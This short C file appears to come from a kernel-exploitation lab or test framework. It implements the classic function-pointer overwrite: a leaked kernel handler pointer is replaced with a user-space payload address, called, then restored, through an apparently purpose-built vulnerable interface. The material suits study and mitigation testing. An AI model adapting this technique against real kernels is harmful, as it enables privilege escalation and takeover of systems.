// The classic: a function pointer in the kernel is overwritten with the address of user code, and then used.
#include "exploit.h"

static int run(const struct vuln_leak *leak) {
    vuln(VULN_POKE, leak->handler_pointer, (uintptr_t)payload_call);
    int cs = vuln(VULN_CALL, 0, 0);
    vuln(VULN_POKE, leak->handler_pointer, leak->handler);
    return cs;
}

const struct exploit exploit_fnptr = {"fnptr", run, payload_call};
